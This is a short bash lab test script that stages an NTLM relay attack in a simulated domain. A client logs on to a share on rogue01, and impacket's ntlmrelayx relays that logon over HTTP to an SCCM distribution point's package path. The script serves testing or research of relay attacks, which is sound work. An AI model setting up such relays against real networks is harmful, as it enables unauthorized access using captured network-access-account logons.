#!/bin/bash
# A client opens a share of rogue01, where impacket's ntlmrelayx hands its NTLM logon on to dp01 over HTTP.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/shares.sh"
serve dp01 --roles dp --dp-auth ntlm
relay rogue01 445 -smb2support --no-http-server -t "http://dp01.corp.example/SMS_DP_SMSPKG\$/PS100012/sccm?/readme.html"
record
smb client01 "-UCORP/svc_naa%$PASSWORD" //rogue01.corp.example/share -c ls
sleep 1
finish
